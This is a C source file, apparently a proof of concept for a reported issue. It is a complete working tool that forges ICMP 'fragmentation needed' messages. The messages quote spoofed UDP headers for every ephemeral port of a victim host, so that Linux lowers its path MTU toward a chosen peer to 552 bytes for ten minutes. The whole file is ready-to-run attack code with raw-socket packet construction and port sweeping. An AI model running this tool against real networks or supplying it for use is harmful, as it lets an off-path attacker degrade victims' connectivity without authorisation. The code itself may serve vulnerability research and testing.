/*
 * icmp_spray.c - the off-path attack of issue 25: forged ICMP
 * "destination unreachable, fragmentation needed" (type 3, code 4) sent
 * to a victim host, each quoting the IPv4 and UDP headers of a datagram
 * the victim supposedly sent from VICTIM_ADDR:PORT to PEER_ADDR, for every
 * PORT of a range (the victim's ephemeral ports), with a next-hop MTU of
 * --mtu (552).  Linux takes such an ICMP when the quoted header matches
 * one of its UDP sockets (for an unconnected socket: its local address and
 * port) and lowers its route MTU toward PEER_ADDR for 10 minutes
 * (net.ipv4.route.mtu_expires; never below net.ipv4.route.min_pmtu, 552).
 * The attacker needs no port of the victim's: it names them all.
 *
 *   icmp_spray TARGET VICTIM_ADDR PEER_ADDR [--ports LO-HI] [--mtu N]
 *              [--dport P] [--seconds S | --sweeps N]
 *
 * TARGET: where the ICMP goes (the victim host's address).  --ports: the
 * quoted source ports (default 32768-60999, Linux's ip_local_port_range);
 * --dport: the quoted destination port (default 9; an unconnected socket
 * matches any); sweeps the range --sweeps times (1) or for --seconds.
 * A raw IPPROTO_ICMP socket (needs CAP_NET_RAW): the kernel writes the
 * outer IP header with the attacker's own address, as a router on the
 * path would.  Prints "SPRAY sent=N sweeps=K seconds=T errors=E".
 * Exit status 0 if every datagram was sent, 1 otherwise, 2 on a usage
 * error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double) ts.tv_sec + ts.tv_nsec * 1e-9;
}

static uint16_t csum(const void *data, size_t len)
{
    const uint8_t *p = data;
    uint32_t sum = 0;
    size_t i;
    for (i = 0; i + 1 < len; i += 2)
        sum += (uint32_t) (p[i] << 8 | p[i + 1]);
    if (len & 1)
        sum += (uint32_t) p[len - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t) ~sum);
}

static void usage(void)
{
    fprintf(stderr, "usage: icmp_spray TARGET VICTIM_ADDR PEER_ADDR [--ports LO-HI] [--mtu N] [--dport P]\n"
                    "                  [--seconds S | --sweeps N]\n");
    exit(2);
}

static struct in_addr addr(const char *s)
{
    struct in_addr a;
    if (inet_pton(AF_INET, s, &a) != 1)
        usage();
    return a;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to;
    struct in_addr victim, peer;
    unsigned long lo = 32768, hi = 60999, mtu = 552, dport = 9, sweeps = 1;
    double seconds = 0, t0;
    unsigned long long sent = 0, errors = 0, done_sweeps = 0;
    int fd, i, first_err = 0;
    struct {
        struct icmphdr icmp;
        struct iphdr ip;
        struct udphdr udp;
    } __attribute__((packed)) pkt;

    if (argc < 4)
        usage();
    memset(&to, 0, sizeof(to));
    to.sin_family = AF_INET;
    to.sin_addr = addr(argv[1]);
    victim = addr(argv[2]);
    peer = addr(argv[3]);
    for (i = 4; i + 1 < argc; i += 2) {
        const char *o = argv[i], *v = argv[i + 1];
        if (!strcmp(o, "--ports")) {
            if (sscanf(v, "%lu-%lu", &lo, &hi) != 2)
                usage();
        } else if (!strcmp(o, "--mtu"))
            mtu = strtoul(v, NULL, 10);
        else if (!strcmp(o, "--dport"))
            dport = strtoul(v, NULL, 10);
        else if (!strcmp(o, "--seconds"))
            seconds = atof(v);
        else if (!strcmp(o, "--sweeps"))
            sweeps = strtoul(v, NULL, 10);
        else
            usage();
    }
    if (i != argc || lo < 1 || hi > 65535 || lo > hi || mtu < 68 || mtu > 65535 || dport > 65535 || seconds < 0 ||
        (seconds == 0 && sweeps < 1))
        usage();

    fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) {
        fprintf(stderr, "icmp_spray: raw socket: %s\n", strerror(errno));
        return 1;
    }

    /* the quoted datagram: VICTIM -> PEER, UDP, DF, a jumbo length */
    memset(&pkt, 0, sizeof(pkt));
    pkt.icmp.type = ICMP_DEST_UNREACH;
    pkt.icmp.code = ICMP_FRAG_NEEDED;
    pkt.icmp.un.frag.mtu = htons((uint16_t) mtu);
    pkt.ip.version = 4;
    pkt.ip.ihl = 5;
    pkt.ip.tot_len = htons(9000);
    pkt.ip.frag_off = htons(IP_DF);
    pkt.ip.ttl = 64;
    pkt.ip.protocol = IPPROTO_UDP;
    pkt.ip.saddr = victim.s_addr;
    pkt.ip.daddr = peer.s_addr;
    pkt.udp.dest = htons((uint16_t) dport);
    pkt.udp.len = htons(9000 - 20);

    t0 = now();
    for (;;) {
        unsigned long port;
        for (port = lo; port <= hi; port++) {
            pkt.ip.id = htons((uint16_t) (port * 2654435761u >> 16));
            pkt.ip.check = 0;
            pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip));
            pkt.udp.source = htons((uint16_t) port);
            pkt.icmp.checksum = 0;
            pkt.icmp.checksum = csum(&pkt, sizeof(pkt));
            if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) sizeof(pkt)) {
                sent++;
            } else if (errno == ENOBUFS || errno == EAGAIN) {
                port--; /* the queue is full: try this port again */
            } else {
                if (!first_err)
                    first_err = errno;
                errors++;
            }
        }
        done_sweeps++;
        if (seconds > 0 ? now() - t0 >= seconds : done_sweeps >= sweeps)
            break;
    }
    printf("SPRAY sent=%llu sweeps=%llu ports=%lu-%lu mtu=%lu seconds=%.3f errors=%llu%s%s\n", sent, done_sweeps, lo,
           hi, mtu, now() - t0, errors, first_err ? " first_error=" : "", first_err ? strerror(first_err) : "");
    close(fd);
    return errors ? 1 : 0;
}
